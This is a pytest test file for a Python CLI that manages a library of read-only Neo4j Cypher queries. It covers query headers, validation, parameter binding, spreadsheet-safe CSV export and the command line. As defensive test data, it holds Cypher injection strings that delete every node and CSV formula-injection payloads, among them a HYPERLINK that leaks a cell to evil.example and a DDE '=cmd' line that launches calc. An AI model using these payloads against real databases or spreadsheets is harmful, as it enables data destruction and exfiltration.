"""The query library as data: headers, validation, parameter binding, safe CSV, the CLI."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from neo4j.time import Date, DateTime, Duration
from typer.testing import CliRunner

from cibgraph.cli.main import app
from cibgraph.cli.query import parse_params, rows_to_table
from cibgraph.core.errors import QueryFailed, UsageError
from cibgraph.graph.exports.safe_csv import escape_cell, write_csv
from cibgraph.graph.exports.values import plain
from cibgraph.queries.registry import (
    CATEGORIES,
    InvalidQueryFile,
    QueryTimedOut,
    UnknownParameter,
    UnknownQuery,
    load_library,
    parse_query,
    split_header,
)
from cibgraph.queries.validation import strip_literals, validate_library, validate_query
from cibgraph.queries.values import InvalidParameterValue, cypher_literal
from tests.fakes import RecordingRunner

QUERIES_DIR = Path(__file__).resolve().parents[2] / "queries"

EXAMPLE = """\
// name: shared_admins
// title: Pages that share admins
// category: signal            # one of: signal, exploration, network, provenance
// description: >
//   Pairs of pages administered by the same accounts,
//   strongest first.
// parameters:
//   min_shared: {default: 1, description: "minimum number of shared admins"}
//   ratio: {default: 0.5, description: "a float"}
//   strict: {default: false, description: "a flag"}
//   kinds: {default: ["ip", "device"], description: "a list"}
//   label: {default: "x", description: "a string"}
//   limit: {default: 100, description: "maximum rows"}
// revision: 2
// references: ["https://example.org/takedown"]

// Not header: a comment about the Cypher below.
MATCH (a:Account)-[:ADMINISTERS]->(p:Page)
WHERE size($kinds) >= 0 AND $strict = $strict AND $ratio >= 0 AND $label <> ''
WITH p, count(a) AS admins
WHERE admins >= $min_shared
RETURN p.id AS page, admins
LIMIT $limit
"""


def example(text: str = EXAMPLE, path: str = "queries/shared_admins.cypher") -> Any:
    return parse_query(text, path)


# --- header parsing ------------------------------------------------------------------


def test_header_is_the_leading_comment_block() -> None:
    header, cypher = split_header(EXAMPLE)
    assert header.startswith("name: shared_admins\ntitle:")
    assert "Not header" not in header
    assert cypher.startswith("// Not header")
    assert cypher.endswith("LIMIT $limit")


def test_parse_reads_every_field() -> None:
    q = example()
    assert (q.name, q.title, q.category, q.revision) == (
        "shared_admins",
        "Pages that share admins",
        "signal",
        2,
    )
    assert q.description == "Pairs of pages administered by the same accounts, strongest first."
    assert [p.name for p in q.parameters] == [
        "min_shared",
        "ratio",
        "strict",
        "kinds",
        "label",
        "limit",
    ]
    assert q.parameters[0].default == 1
    assert q.parameters[0].description == "minimum number of shared admins"
    assert q.references == ("https://example.org/takedown",)
    assert q.unbounded is False
    assert q.stem == "shared_admins"
    assert validate_query(q) == []


def test_file_without_header_is_refused() -> None:
    with pytest.raises(InvalidQueryFile, match="no metadata header"):
        parse_query("MATCH (n) RETURN n LIMIT 1", "queries/x.cypher")


def test_header_that_is_not_yaml_is_refused() -> None:
    with pytest.raises(InvalidQueryFile, match="not valid YAML"):
        parse_query("// name: [unclosed\nMATCH (n) RETURN n LIMIT 1", "queries/x.cypher")


# --- validation ----------------------------------------------------------------------


def test_every_packaged_query_validates() -> None:
    assert validate_library() == []


def test_every_packaged_file_is_in_the_library_under_its_stem() -> None:
    files = sorted(p.stem for p in QUERIES_DIR.glob("*.cypher"))
    library = load_library()
    assert files, "the package ships queries"
    assert library.names() == files
    for query in library:
        assert query.name == query.stem
        assert query.category in CATEGORIES


def _with(old: str, new: str) -> list[str]:
    assert old in EXAMPLE
    return validate_query(example(EXAMPLE.replace(old, new, 1)))


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("// name: shared_admins\n", "", "missing header key 'name'"),
        ("// revision: 2\n", "", "missing header key 'revision'"),
        ("name: shared_admins", "name: other_name", "differs from the file name"),
        ("name: shared_admins", "name: SharedAdmins", "not snake_case"),
        ("category: signal ", "category: gossip ", "category 'gossip' is not one of"),
        ("revision: 2", "revision: 0", "revision 0 is not a positive integer"),
        ("revision: 2", "revision: two", "not a positive integer"),
        ("title: Pages that share admins", "title: ''", "title must be non-empty"),
        (
            'references: ["https://example.org/takedown"]',
            "references: [ftp://x]",
            "references must be",
        ),
        ("// revision: 2\n", "// revision: 2\n// owner: me\n", "unknown header key 'owner'"),
        ("LIMIT $limit", "", "no LIMIT"),
        ("admins >= $min_shared", "admins >= $minimum", "$minimum is used but not declared"),
        ("admins >= $min_shared", "admins >= 1", "'min_shared' is declared but not used"),
        (
            '{default: 1, description: "minimum number of shared admins"}',
            "{default: 1}",
            "needs exactly `default` and `description`",
        ),
        (
            '{default: 1, description: "minimum number of shared admins"}',
            '{default: 2019-04-01, description: "a date"}',
            "quote dates",
        ),
        ("RETURN p.id AS page", "SET p.flag = true RETURN p.id AS page", "read-only"),
        ("RETURN p.id AS page", "DETACH DELETE a RETURN p.id AS page", "read-only"),
    ],
)
def test_validation_finds(old: str, new: str, problem: str) -> None:
    problems = _with(old, new)
    assert any(problem in p for p in problems), problems


def test_unbounded_queries_need_no_limit() -> None:
    text = EXAMPLE.replace("LIMIT $limit", "").replace(
        '//   limit: {default: 100, description: "maximum rows"}\n', ""
    )
    text = text.replace("// revision: 2", "// revision: 2\n// unbounded: true")
    assert validate_query(example(text)) == []


def test_empty_parameters_are_allowed() -> None:
    text = (
        "// name: count_pages\n// title: Count pages\n// category: exploration\n"
        "// description: How many pages.\n// parameters: {}\n// revision: 1\n"
        "MATCH (p:Page) RETURN count(p) AS pages LIMIT 1\n"
    )
    q = parse_query(text, "count_pages.cypher")
    assert validate_query(q) == []
    assert q.bind() == {}
    assert q.browser_params() == []


def test_dollars_limits_and_writes_in_strings_and_comments_are_not_code() -> None:
    cypher = (
        "MATCH (n) // uses $ghost and SET in a comment\n"
        'WHERE n.name <> \'costs $5, LIMIT 3, DELETE\' AND n.`set` = "it\\"s $x" /* $y */\n'
        "RETURN n.set AS s, n.create AS c LIMIT $limit"
    )
    code = strip_literals(cypher)
    assert len(code) == len(cypher)
    assert "$ghost" not in code and "$x" not in code and "$y" not in code
    assert "DELETE" not in code
    assert "$limit" in code
    text = (
        "// name: tricky\n// title: T\n// category: exploration\n// description: D\n"
        '// parameters:\n//   limit: {default: 1, description: "rows"}\n// revision: 1\n' + cypher
    )
    assert validate_query(parse_query(text, "tricky.cypher")) == []


def test_validate_library_reports_broken_and_duplicate_files(tmp_path: Path) -> None:
    (tmp_path / "shared_admins.cypher").write_text(EXAMPLE)
    (tmp_path / "broken.cypher").write_text("MATCH (n) RETURN n")
    (tmp_path / "copy.cypher").write_text(EXAMPLE)
    (tmp_path / "notes.txt").write_text("ignored")
    problems = validate_library(tmp_path)
    assert any("broken.cypher" in p and "no metadata header" in p for p in problems)
    assert any("copy.cypher" in p and "differs from the file name" in p for p in problems)
    assert any("also used by" in p for p in problems)
    assert not any("notes.txt" in p for p in problems)


# --- looking queries up --------------------------------------------------------------


def test_unknown_name_suggests_the_closest() -> None:
    with pytest.raises(UnknownQuery) as info:
        load_library().get("load_run")
    assert "load_run" in info.value.message
    assert info.value.hint is not None and "load_runs" in info.value.hint


def test_unknown_name_without_a_close_match_points_to_list() -> None:
    with pytest.raises(UnknownQuery) as info:
        load_library().get("zzzzzz")
    assert info.value.hint is not None and "cib query list" in info.value.hint


def test_unknown_category_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match="Unknown category"):
        load_library().in_category("gossip")


# --- binding parameters --------------------------------------------------------------


def test_defaults_when_nothing_is_given() -> None:
    assert example().bind() == {
        "min_shared": 1,
        "ratio": 0.5,
        "strict": False,
        "kinds": ["ip", "device"],
        "label": "x",
        "limit": 100,
    }


@pytest.mark.parametrize(
    ("name", "raw", "expected"),
    [
        ("min_shared", "3", 3),
        ("min_shared", "3.0", 3),
        ("ratio", "2", 2.0),
        ("ratio", "0.25", 0.25),
        ("strict", "true", True),
        ("strict", "False", False),
        ("strict", "yes", True),
        ("strict", "0", False),
        ("kinds", '["phone"]', ["phone"]),
        ("kinds", "phone, email", ["phone", "email"]),
        ("kinds", "phone", ["phone"]),
        ("label", "account:42", "account:42"),
        ("label", "123", "123"),  # a string parameter keeps the text as typed
        ("label", "1e3", "1e3"),
        ("label", "null", "null"),
        ("label", '"quoted text"', "quoted text"),
        ("label", "", ""),
        ("label", "a=b", "a=b"),
    ],
)
def test_values_are_coerced_to_the_defaults_type(name: str, raw: str, expected: Any) -> None:
    bound = example().bind({name: raw})
    assert bound[name] == expected
    assert type(bound[name]) is type(expected)


@pytest.mark.parametrize(
    "payload",
    [
        "x' }) MATCH (n) DETACH DELETE n //",
        'x" }) MATCH (n) DETACH DELETE n //',
        "'; MATCH (n) DETACH DELETE n; //",
        "$limit",
        "{default: 1}",
    ],
)
def test_injection_looking_values_stay_plain_strings(payload: str) -> None:
    q = example()
    bound = q.bind({"label": payload})
    assert bound["label"] == payload
    assert type(bound["label"]) is str


def test_injection_payload_is_sent_as_a_parameter_not_as_cypher() -> None:
    q = load_library().get("actor_neighbourhood")
    runner = RecordingRunner()
    payload = "x' }) MATCH (n) DETACH DELETE n //"
    q.run(runner, {"actor_key": payload}, timeout=5)
    (call,) = runner.calls
    assert call.mode == "read"
    assert call.query == q.cypher
    assert call.params["actor_key"] == payload
    assert call.timeout == 5


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("min_shared", "many"),
        ("min_shared", "2.5"),
        ("min_shared", "true"),
        ("ratio", "x"),
        ("strict", "maybe"),
    ],
)
def test_values_of_the_wrong_type_are_refused(name: str, raw: str) -> None:
    with pytest.raises(InvalidParameterValue) as info:
        example().bind({name: raw})
    assert name in info.value.message and repr(raw) in info.value.message


def test_unknown_parameter_names_the_known_ones() -> None:
    with pytest.raises(UnknownParameter) as info:
        example().bind({"min_sharde": "2"})
    assert isinstance(info.value, UsageError)
    assert "min_sharde" in info.value.message
    assert info.value.hint is not None
    assert "min_shared" in info.value.hint and "limit" in info.value.hint


def test_cli_params_split_on_the_first_equals_sign() -> None:
    assert parse_params(["a=1", "b=x=y", "c="]) == {"a": "1", "b": "x=y", "c": ""}
    assert parse_params(None) == {}
    with pytest.raises(UsageError, match="NAME=VALUE"):
        parse_params(["novalue"])


# --- Browser -------------------------------------------------------------------------


def test_browser_params_are_cypher_literals() -> None:
    q = example()
    assert q.browser_params() == [
        ":param min_shared => 1;",
        ":param ratio => 0.5;",
        ":param strict => false;",
        ":param kinds => ['ip', 'device'];",
        ":param label => 'x';",
        ":param limit => 100;",
    ]
    assert ":param label => 'it\\'s';" in q.browser_params(q.bind({"label": "it's"}))


def test_browser_script_is_params_then_the_query_unchanged() -> None:
    q = example()
    script = q.browser_script()
    assert script == "\n".join(q.browser_params()) + "\n" + q.cypher + "\n"
    assert "// name:" not in script


@pytest.mark.parametrize(
    ("value", "literal"),
    [
        (None, "null"),
        (True, "true"),
        (3, "3"),
        (0.5, "0.5"),
        ("a'b\\c\nd", "'a\\'b\\\\c\\nd'"),
        ("\x01", "'\\u0001'"),
        ([1, "x"], "[1, 'x']"),
        ({"k": 1, "odd key": 2}, "{k: 1, `odd key`: 2}"),
    ],
)
def test_cypher_literal(value: Any, literal: str) -> None:
    assert cypher_literal(value) == literal


# --- timeouts ------------------------------------------------------------------------


def test_a_server_timeout_becomes_a_named_error_naming_the_option() -> None:
    def time_out(_: dict[str, Any]) -> list[dict[str, Any]]:
        raise QueryFailed(
            "Neo4j rejected the query: The transaction has been terminated.",
            "Neo.ClientError.Transaction.TransactionTimedOutClientConfiguration",
        )

    runner = RecordingRunner(answers={"MATCH": time_out})
    with pytest.raises(QueryTimedOut) as info:
        load_library().get("load_runs").run(runner, timeout=2)
    assert "2 s" in info.value.message
    assert info.value.hint is not None and "--timeout" in info.value.hint


def test_other_query_failures_pass_through() -> None:
    def fail(_: dict[str, Any]) -> list[dict[str, Any]]:
        raise QueryFailed(
            "Neo4j rejected the query: syntax", "Neo.ClientError.Statement.SyntaxError"
        )

    runner = RecordingRunner(answers={"MATCH": fail})
    with pytest.raises(QueryFailed) as info:
        load_library().get("load_runs").run(runner)
    assert not isinstance(info.value, QueryTimedOut)


# --- safe CSV ------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_dangerous_first_characters_are_quoted(prefix: str) -> None:
    value = f'{prefix}HYPERLINK("https://evil.example/?"&A1)'
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["  =1+1", "\n@SUM(A1)", " \t-2+3"])
def test_dangerous_characters_after_leading_whitespace_are_quoted(value: str) -> None:
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["plain text", "account:42", "a=b", "1+1", "'already quoted", "https://x.example/?a=-1", ""],
)
def test_safe_text_is_untouched(value: str) -> None:
    assert escape_cell(value) == value


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (-5, "-5"),
        (-0.5, "-0.5"),
        (["=cmd", 1], '["=cmd", 1]'),
        ({"k": "v"}, '{"k": "v"}'),
        (DateTime(2019, 4, 1, 12, 0, 0), "2019-04-01T12:00:00.000000000"),
        (Date(2019, 4, 1), "2019-04-01"),
    ],
)
def test_non_text_values(value: Any, text: str) -> None:
    assert escape_cell(value) == text


def test_write_csv_escapes_every_cell_and_quotes_all(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    rows: list[Any] = [
        {"name": "=cmd|' /C calc'!A0", "n": -3, "tags": ["@x", "y"]},
        ["ok", 2, None],
    ]
    assert write_csv(target, ["name", "n", "tags"], rows) == 2
    raw = target.read_text(encoding="utf-8")
    assert raw.splitlines()[0] == '"name","n","tags"'
    parsed = list(csv.reader(io.StringIO(raw)))
    assert parsed[1] == ["'=cmd|' /C calc'!A0", "-3", '["@x", "y"]']
    assert parsed[2] == ["ok", "2", ""]


def test_write_csv_escapes_the_header_too() -> None:
    buffer = io.StringIO()
    write_csv(buffer, ["=sum"], [])
    assert buffer.getvalue().strip() == '"\'=sum"'


def test_plain_values_are_json_ready() -> None:
    value = {
        "when": DateTime(2019, 4, 1, 12, 0, 0),
        "took": Duration(hours=2),
        "xs": (1, float("nan")),
    }
    assert json.loads(json.dumps(plain(value))) == {
        "when": "2019-04-01T12:00:00.000000000",
        "took": "PT2H",
        "xs": [1, "NaN"],
    }


def test_table_cells_are_text_not_markup() -> None:
    table = rows_to_table([{"name": "[bold red]x[/]", "n": None, "xs": [1, 2]}])
    assert [c.header for c in table.columns] == ["name", "n", "xs"]
    cells = [str(next(iter(c.cells))) for c in table.columns]
    assert cells == ["[bold red]x[/]", "", "[1,2]"]


# --- the CLI -------------------------------------------------------------------------

runner = CliRunner()


def test_cli_list() -> None:
    result = runner.invoke(app, ["query", "list"])
    assert result.exit_code == 0, result.output
    for name in load_library().names():
        assert name in result.stdout


def test_cli_list_json_and_category() -> None:
    result = runner.invoke(app, ["query", "list", "--category", "provenance", "--json"])
    assert result.exit_code == 0, result.output
    listed = json.loads(result.stdout)
    assert [q["name"] for q in listed] == [
        q.name for q in load_library() if q.category == "provenance"
    ]
    assert {"name", "category", "title", "revision", "description", "parameters"} <= set(listed[0])


def test_cli_list_unknown_category() -> None:
    result = runner.invoke(app, ["query", "list", "--category", "gossip"])
    assert result.exit_code == 2
    assert "Unknown category" in result.stderr


def test_cli_show() -> None:
    result = runner.invoke(app, ["query", "show", "actor_neighbourhood"])
    assert result.exit_code == 0, result.output
    q = load_library().get("actor_neighbourhood")
    assert q.title in result.stdout
    for p in q.parameters:
        assert p.name in result.stdout
    assert "MATCH (actor:Actor {key: $actor_key})" in result.stdout


def test_cli_show_browser_prints_exactly_the_paste() -> None:
    result = runner.invoke(
        app, ["query", "show", "actor_neighbourhood", "--browser", "--param", "actor_key=page:7"]
    )
    assert result.exit_code == 0, result.output
    q = load_library().get("actor_neighbourhood")
    assert result.stdout == q.browser_script(q.bind({"actor_key": "page:7"}))
    assert result.stdout.startswith(":param actor_key => 'page:7';\n")


def test_cli_show_unknown_query_hints() -> None:
    result = runner.invoke(app, ["query", "show", "actor_neighborhood"])
    assert result.exit_code == 2
    assert "did you mean 'actor_neighbourhood'" in result.stderr


def test_cli_show_unknown_parameter() -> None:
    result = runner.invoke(app, ["query", "show", "load_runs", "-p", "rows=3"])
    assert result.exit_code == 2
    assert "has no parameter 'rows'" in result.stderr
    assert "limit, runs" in result.stderr


class _FakeDb(RecordingRunner):
    pass


@pytest.fixture()
def fake_db(monkeypatch: pytest.MonkeyPatch) -> _FakeDb:
    """`cib query run` against a recording runner instead of a server."""
    fake = _FakeDb(
        answers={
            "LoadRun": [
                {
                    "run_id": "r1",
                    "started_at": DateTime(2019, 4, 1, 9, 30, 0),
                    "path": "=evil()",
                    "read": 3,
                },
                {"run_id": "r2", "started_at": None, "path": "pages.csv", "read": 1},
            ]
        }
    )

    @contextmanager
    def opened(_settings: object) -> Iterator[_FakeDb]:
        yield fake

    monkeypatch.setattr("cibgraph.cli.common.resolve_settings", lambda *a, **k: object())
    monkeypatch.setattr("cibgraph.cli.common.open_database", opened)
    return fake


def test_cli_run_json_sends_typed_parameters_and_the_timeout(fake_db: _FakeDb) -> None:
    result = runner.invoke(
        app, ["query", "run", "load_runs", "-p", "runs=2", "--format", "json", "--timeout", "7.5"]
    )
    assert result.exit_code == 0, result.output
    (call,) = fake_db.calls
    assert call.mode == "read"
    assert call.params == {"runs": 2, "limit": 200}
    assert call.timeout == 7.5
    rows = json.loads(result.stdout)
    assert rows[0]["started_at"] == "2019-04-01T09:30:00.000000000"
    assert "2 rows" in result.stderr


def test_cli_run_default_timeout_is_60_seconds(fake_db: _FakeDb) -> None:
    result = runner.invoke(app, ["query", "run", "load_runs", "--quiet"])
    assert result.exit_code == 0, result.output
    assert fake_db.calls[0].timeout == 60
    assert "r1" in result.stdout
    assert result.stderr == ""


def test_cli_run_csv_to_a_file_is_spreadsheet_safe(fake_db: _FakeDb, tmp_path: Path) -> None:
    target = tmp_path / "rows.csv"
    result = runner.invoke(app, ["query", "run", "load_runs", "-f", "csv", "--out", str(target)])
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    with target.open(encoding="utf-8", newline="") as handle:
        parsed = list(csv.DictReader(handle))
    assert parsed[0]["path"] == "'=evil()"
    assert parsed[1]["started_at"] == ""


def test_cli_run_timeout_error_names_the_option(fake_db: _FakeDb) -> None:
    def time_out(_: dict[str, Any]) -> list[dict[str, Any]]:
        raise QueryFailed("terminated", "Neo.ClientError.Transaction.TransactionTimedOut")

    fake_db.answers = {"LoadRun": time_out}
    result = runner.invoke(app, ["query", "run", "load_runs", "--timeout", "3"])
    assert result.exit_code == QueryTimedOut.exit_code
    assert "did not finish within 3 s" in result.stderr
    assert "--timeout" in result.stderr
    assert "Traceback" not in result.output


def test_cli_run_refuses_a_non_positive_timeout(fake_db: _FakeDb) -> None:
    result = runner.invoke(app, ["query", "run", "load_runs", "--timeout", "0"])
    assert result.exit_code == 2
    assert "--timeout" in result.stderr
    assert fake_db.calls == []
